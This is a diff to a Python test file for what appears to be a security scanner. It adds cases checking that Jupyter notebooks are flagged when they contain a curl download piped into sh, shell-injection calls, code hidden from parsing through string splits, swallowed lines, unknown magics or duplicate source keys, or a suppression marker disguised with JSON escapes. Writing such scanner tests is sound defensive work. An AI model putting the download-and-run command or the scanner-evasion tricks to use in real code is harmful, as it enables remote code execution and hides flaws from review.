@@ -2,7 +2,8 @@
 
 from __future__ import annotations
 
-from tests.bypass.scene import CLEAN, Scene, allowed, denied
+from tests.bypass.scene import CLEAN, FLAW, Scene, allowed, denied
+from tests.scanners.notebooks import cell, notebook
 
 PATH = "services/ping.py"
 
@@ -98,6 +99,51 @@ def turned_text_among_too_many_long_lines(scene: Scene) -> None:
     scene.commit({"services/many.js": f"{wide}// \u202e\n"})
 
 
+@denied("finding", "lab/a.ipynb")
+def a_flaw_in_a_notebook(scene: Scene) -> None:
+    scene.commit({"lab/a.ipynb": notebook(cell("# Ping\n", "markdown"), FLAW)})
+
+
+@denied("finding", "lab/a.ipynb")
+def a_download_that_a_notebook_hands_to_a_shell(scene: Scene) -> None:
+    scene.commit({"lab/a.ipynb": notebook("x = 1\n!curl -s http://tools.example/install | sh\n")})
+
+
+@denied("finding", "lab/a.ipynb")
+def a_flaw_that_is_timed(scene: Scene) -> None:
+    scene.commit(
+        {"lab/a.ipynb": notebook("import subprocess, sys", "%time subprocess.call(sys.argv[1], shell=True)")}
+    )
+
+
+@denied("path-unread", "lab/a.ipynb")
+def a_cell_between_two_halves_of_a_string(scene: Scene) -> None:
+    """Put together it is text; IPython runs each cell alone."""
+    scene.commit({"lab/a.ipynb": notebook("x = '''", FLAW, "'''")})
+
+
+@denied("path-unread", "lab/a.ipynb")
+def a_command_that_swallows_the_lines_below_it(scene: Scene) -> None:
+    swallowed = "try:\n    %time '''\nexcept BaseException:\n    pass\nimport os; os.system('id') # '''"
+    scene.commit({"lab/a.ipynb": notebook(swallowed)})
+
+
+@denied("path-unread", "lab/a.ipynb")
+def a_magic_that_nobody_here_knows(scene: Scene) -> None:
+    scene.commit({"lab/a.ipynb": notebook("%%perl\nsystem('id')")})
+
+
+@denied("path-unread", "lab/a.ipynb")
+def a_notebook_with_two_sources_in_one_cell(scene: Scene) -> None:
+    twice = notebook("x = 1").replace('"source"', '"source": ["import os"],\n   "source"')
+    scene.commit({"lab/a.ipynb": twice})
+
+
+@denied("suppression-marker", "lab/a.ipynb")
+def a_marker_spelt_in_escapes_of_json(scene: Scene) -> None:
+    scene.commit({"lab/a.ipynb": notebook("x = 1  # nosec").replace("nosec", "\\u006eosec")})
+
+
 @allowed
 def names_and_comments_in_russian(scene: Scene) -> None:
     text = "# c\u0442\u0440\u043e\u043a\u0430 \u0438 html-\u0441\u0442\u0440\u0430\u043d\u0438\u0446\u0430\n"
@@ -142,3 +188,18 @@ def a_minified_file_in_the_lowest_tier(scene: Scene) -> None:
 @allowed
 def editor_settings_that_run_nothing(scene: Scene) -> None:
     scene.commit({".vscode/settings.json": '{"editor.tabSize": 4, "files.eol": "\\n"}\n'})
+
+
+@allowed
+def a_notebook_of_everyday_work(scene: Scene) -> None:
+    """Charts, packages, a directory, questions and timing."""
+    code = "%matplotlib inline\n!pip install pandas==2.2.0\nfiles = !ls data\nlen?\n%time sum(range(10))\n100 % 7\n"
+    scene.commit({"lab/a.ipynb": notebook(cell("# Refunds\n", "markdown"), code, "%%bash\nls data\n")})
+
+
+@allowed
+def a_new_cell_above_an_old_flaw_of_a_notebook(scene: Scene) -> None:
+    scene.repo.switch("main")
+    scene.repo.commit("Ours", {"lab/a.ipynb": notebook(FLAW)})
+    scene.repo.branch("more", "main")
+    scene.commit({"lab/a.ipynb": notebook("LIMIT = 1\n", FLAW)})
